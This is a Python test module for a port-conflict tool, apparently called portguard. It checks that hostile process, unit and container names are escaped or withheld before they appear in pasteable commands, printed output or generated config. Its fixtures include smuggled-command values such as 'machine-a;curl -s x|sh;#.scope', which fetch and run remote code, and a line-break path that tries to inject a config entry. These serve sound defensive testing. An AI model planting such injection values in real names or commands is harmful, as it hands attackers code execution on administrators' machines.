"""What an unprivileged user names never becomes a command to paste or a config entry.

Names, paths, argv and journal text are chosen by processes and users (docs/security.md,
"Hostile local users"). These drive the renderer (`portguard.text`), every advice builder
and discover's proposal with hostile names, Hypothesis over shell metacharacters, line
breaks, ESC/CR and any NUL-free text, and assert what the administrator cares about: a
command line offered to paste parses, as a shell parses it, into exactly the intended
words; nothing printed holds a control character; a proposal declares only what ran.
"""

from __future__ import annotations

import io
import os
import shlex
import socket
import threading
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portguard.config.schema import Service, loads
from portguard.decide import bindfail, postmortem, proposal
from portguard.decide.classify import Conflict, Kind
from portguard.model import (
    JOURNAL_SYSTEMD,
    Container,
    Holder,
    JournalRecord,
    PortSpec,
    Process,
    Proto,
    Socket,
    Unit,
)
from portguard.observe.containers import files
from portguard.observe.procs.cgroups import container_from_cgroup, container_scope
from portguard.report import tables
from portguard.report.journal import Event, Journal
from portguard.report.output import Output
from portguard.text import command, is_container_name, is_unit_name, shell_join, shown

INJECTION = "machine-a;curl -s x|sh;#.scope"
SHELL_META = set(";|&$`<>()\\\"'*?[]#~=%!{}\n\r\t ")
# Names with shell syntax, line breaks, escape sequences, bidi overrides, undecodable bytes
HOSTILE = st.one_of(
    st.text(alphabet=st.sampled_from(sorted(SHELL_META) + list("ab.-@\x1b\x07\x9b\u202e"
                                                             "\u2028\x85\udcff")),
            min_size=1, max_size=30),
    st.text(alphabet=st.characters(blacklist_characters="\0"), min_size=1, max_size=40),
)


def operators(line: str) -> list[str]:
    """The shell control operators in `line`, as a POSIX shell tokenises it."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    return [t for t in lexer if t and set(t) <= set("();<>|&")]


def assert_offered_safely(cmd: str, *names: str) -> None:
    """A command offered to paste: no control character, only `&&` between commands,
    and each name it carries arrives as one word, exactly."""
    assert cmd.isprintable()
    assert set(operators(cmd)) <= {"&&"}, cmd
    words = shlex.split(cmd)
    for name in names:
        assert name in words, (cmd, name)


@settings(max_examples=300)
@given(HOSTILE)
def test_shown_leaves_no_control_character_and_one_line(text: str) -> None:
    out = shown(text)
    assert out.isprintable() and "\n" not in out and "\x1b" not in out and "\r" not in out
    assert shown(out) == out  # escaping twice changes nothing: sinks may escape again


@settings(max_examples=300)
@given(st.lists(HOSTILE, min_size=1, max_size=4))
def test_shell_join_is_words_the_shell_reads_back(words: list[str]) -> None:
    line = shell_join(words)
    assert shlex.split(line) == words
    assert line == shlex.join(words)


@settings(max_examples=300)
@given(HOSTILE)
def test_a_container_named_anything_is_stopped_by_a_valid_name_or_not_offered(name: str
                                                                             ) -> None:
    by_id = Container("cri-o", name)  # crictl knows containers by id
    assert by_id.stop_command == "" if not is_container_name(name) else \
        shlex.split(by_id.stop_command) == ["crictl", "stop", name]
    for runtime in ("podman", "docker", "nspawn", "lxc", "containerd"):
        c = Container(runtime, "", name)
        cmd = c.stop_command
        if not is_container_name(name):
            assert cmd == "", (runtime, name, cmd)
        else:
            assert_offered_safely(cmd, name)
        assert c.label.isprintable() and str(c).isprintable()


@settings(max_examples=200)
@given(HOSTILE)
def test_nspawn_only_where_machined_puts_machines(name: str) -> None:
    for path in (f"/user.slice/user-1000.slice/user@1000.service/machine-{name}.scope",
                 f"/system.slice/evil.service/machine-{name}.scope",
                 f"/user.slice/user-1000.slice/user@1000.service/machine.slice/"
                 f"machine-{name}.scope"):
        assert container_scope(path) is None or container_scope(path)[0] != "nspawn"
    machined = container_scope(f"/machine.slice/machine-{name}.scope")
    assert machined is None or (machined[0] == "nspawn" and is_container_name(machined[1]))


def test_the_tried_injection_is_no_container_and_a_real_machine_still_is() -> None:
    user = f"/user.slice/user-1000.slice/user@1000.service/{INJECTION}"
    assert container_scope(user) is None and container_from_cgroup(user) is None
    assert container_scope(f"/system.slice/d.service/{INJECTION}") is None
    assert container_scope(f"/machine.slice/{INJECTION}") is None  # no valid machine name
    assert container_scope("/machine.slice/machine-web\\x2d1.scope/payload") == (
        "nspawn", "web-1", False)
    assert container_scope("/machine.slice/systemd-nspawn@box.service") == (
        "nspawn", "box", False)


def _conflict(kind: Kind, unit: str | None, container: Container | None = None
              ) -> Conflict:
    sock = Socket(Proto.TCP, socket.AF_INET, "LISTEN", "0.0.0.0", 8080, "0.0.0.0", 0, 0, 7)
    holder = Holder(sock, (Process(42, 1000, cmdline=("/srv/x",)),),
                    Unit(unit) if unit else None, container)
    return Conflict(8080, Proto.TCP, kind, "", holder, unit, holder.processes, "")


@settings(max_examples=200)
@given(HOSTILE, HOSTILE)
def test_whys_next_steps_never_carry_a_name_into_a_command_unquoted(unit: str, other: str
                                                                    ) -> None:
    for kind in (*Kind, postmortem.ACTIVATION, postmortem.RUNNING):
        for conflict in (None, _conflict(Kind(kind) if kind in set(Kind) else Kind.FOREIGN,
                                         other),
                         _conflict(Kind.FOREIGN, other, Container("nspawn", "", other))):
            step = postmortem.next_step(unit, str(kind), conflict, other if kind ==
                                        postmortem.ACTIVATION else None)
            assert step.advice.isprintable()
            if step.command:
                assert_offered_safely(step.command)
                for word in shlex.split(step.command):
                    if word not in ("systemctl", "kill", "&&", "sudo", "portguard", "why",
                                    "stop", "start", "restart", "machinectl", "42"):
                        assert word in (unit, other), (step.command, word)
                        assert is_unit_name(word) or is_container_name(word)


def test_the_tried_injection_gets_no_command_in_why() -> None:
    evil = Container("nspawn", "", "a;curl -s x|sh;#")
    step = postmortem.next_step("web.service", "foreign", _conflict(Kind.FOREIGN, None, evil))
    assert "curl -s x|sh" not in step.command and step.command == ""
    assert "machinectl" not in step.advice


@given(HOSTILE)
def test_preflight_advice_and_who_notes_quote_or_withhold(name: str) -> None:
    from portguard.commands.preflight_execute import advice
    svc = Service("web.service", (PortSpec(8080, 8080),))
    for conflict in (_conflict(Kind.FOREIGN, name), _conflict(Kind.FOREIGN, None,
                                                              Container("nspawn", "", name))):
        text = advice(svc, conflict)
        assert text.isprintable()
        if conflict.container is None:
            offered = is_unit_name(name)
            assert ("systemctl stop" in text) == offered, text
            assert not offered or command("systemctl", "stop", name) in text
        else:
            offered = is_container_name(name)
            assert ("machinectl stop" in text) == offered, text
            assert not offered or command("machinectl", "stop", name) in text
        note = tables.container_note(conflict.holder) if conflict.container else ""
        assert note.isprintable()


def _seen(unit: str | None, program: str, port: int = 8080) -> proposal.Seen:
    return proposal.Seen(unit, "0.0.0.0", port, Proto.TCP, False, 99, program)


def test_a_program_path_with_a_line_break_cannot_declare_a_service() -> None:
    evil = "/home/eve/x\nghost.service: {ports: ['1']}\n#/srv/app"
    found, skipped = proposal.entries([_seen("app.service", evil)], ())
    text = proposal.render(found, skipped, (), "header")
    config = loads(text, filename="<discover>")
    assert [s.name for s in config.services] == ["app.service"]
    assert all(line.startswith(("#", "  #", "defaults", "  ", "protected", "services"))
               for line in text.splitlines() if line)


@settings(max_examples=200)
@given(HOSTILE, HOSTILE)
def test_discovers_proposal_declares_only_the_services_that_ran(program: str, title: str
                                                                ) -> None:
    seen = [_seen("app.service", program), _seen(None, title, 8081),
            _seen("user@1000.service", program, 8082), _seen("portguard.service", title, 8083)]
    found, skipped = proposal.entries(seen, ())
    config = loads(proposal.render(found, skipped, (), "h"), filename="<discover>")
    assert [s.name for s in config.services] == ["app.service"]


@pytest.mark.parametrize("unit", ["user@1000.service", "user-runtime-dir@1000.service",
                                  "portguard.service", INJECTION, "a b.service"])
def test_discover_never_proposes_user_managers_portguard_or_bad_names(unit: str) -> None:
    found, skipped = proposal.entries([_seen(unit, "/usr/bin/x")], ())
    assert found == [] and len(skipped) == 1


@given(HOSTILE)
def test_every_sink_escapes_what_a_process_named_itself(name: str) -> None:
    out, err = io.StringIO(), io.StringIO()
    output = Output(out, err)
    output.result(f"pid 5 ({name})")
    output.error(f"pid 5 ({name})")
    journal = Journal(socket_path="/nonexistent", stream=io.StringIO(), echo=False)
    record = journal.emit(Event.CONFLICT, f"pid 5 ({name}) holds 8080")
    for text in (out.getvalue(), err.getvalue(), record.message):  # line breaks: the
        assert all(line.isprintable() for line in text.splitlines())  # sink's last defence
    assert f"({shown(name)})" in record.message or "\n" in name
    proc = Process(5, 0, cmdline=(f"/srv/{name}", name), name=name)
    assert proc.program.isprintable()
    assert all(line.isprintable() for line in tables._command(proc).splitlines())


def test_records_in_a_users_store_are_read_only_as_regular_files_of_their_owner(
        tmp_path: Path) -> None:
    me = os.getuid()
    good = tmp_path / "containers.json"
    good.write_text("[]")
    assert files.read_owned(str(good), me) == "[]"
    assert files.read_owned(str(good), me + 1) is None  # another uid's file: not its store
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    link = tmp_path / "zero"
    link.symlink_to("/dev/zero")
    big = tmp_path / "big"
    big.write_bytes(b"x" * 101)
    t0 = time.monotonic()
    assert files.read_owned(str(fifo), me) is None  # no writer: would block forever
    assert files.read_owned(str(link), me) is None  # never followed
    assert files.read_owned("/dev/zero", 0) is None  # not a regular file
    assert files.read_owned(str(big), me, limit=100) is None
    assert time.monotonic() - t0 < 1
    assert files.list_owned(str(tmp_path), me) == sorted(["big", "containers.json", "fifo",
                                                          "zero"])
    assert files.list_owned(str(link), me) == [] and files.list_owned(str(tmp_path), me + 1) == []


def test_a_store_that_stalls_is_given_up_on_within_the_bound() -> None:
    release = threading.Event()

    def stalls() -> dict[str, str]:
        release.wait(10)
        return {"late": "x"}
    t0 = time.monotonic()
    assert files.bounded("test:stall", stalls, {}, seconds=0.2) == {}
    assert time.monotonic() - t0 < 1
    assert files.bounded("test:stall", lambda: {"now": "y"}, {}) == {}  # not read again
    release.set()
    assert files.bounded("test:fine", lambda: {"now": "y"}, {}) == {"now": "y"}


def _rec(message: str, pid: str, transport: str, invocation: str = "inv") -> JournalRecord:
    return JournalRecord("Dec 08 02:00:00", 1, "ssh.service", "sshd", pid, message, invocation,
                  transport)


SSHD_BIND = "error: Bind to port 22 on 0.0.0.0 failed: Address already in use."
LOGIN = ("Invalid user Bind to port 2222 on 0.0.0.0 failed: Address already in use. "
         "from 127.0.0.1 port 40000")


def test_a_bind_failure_counts_only_from_a_failed_runs_own_output() -> None:
    """A login as a user named like sshd's bind error puts that text in sshd's auth line
    (a per-connection process's); `why` must not take it for a bind failure."""
    failed = _rec("ssh.service: Failed with result 'exit-code'.", "1", JOURNAL_SYSTEMD)
    running = [_rec("Server listening on 0.0.0.0 port 22.", "100", "syslog"),
               _rec(LOGIN, "200", "syslog")]
    assert postmortem.run_output(running, ("inv", 100)) == []  # no failure: no run to read
    assert bindfail.find(postmortem.run_output([*running, failed], ("inv", 100))) == []
    assert bindfail.find(postmortem.run_output([*running, failed])) == []  # main unknown
    own = [_rec(SSHD_BIND, "100", "syslog"), failed]
    [found] = bindfail.find(postmortem.run_output(own, ("inv", 100)))
    assert (found.wording, found.port) == ("sshd", 22)
    assert postmortem.run_output(own, ("other", 100)) == [failed.message]  # another run's
    stderr = [_rec("OSError: [Errno 98] Address already in use", "300", "stdout"), failed]
    assert bindfail.find(postmortem.run_output(stderr))
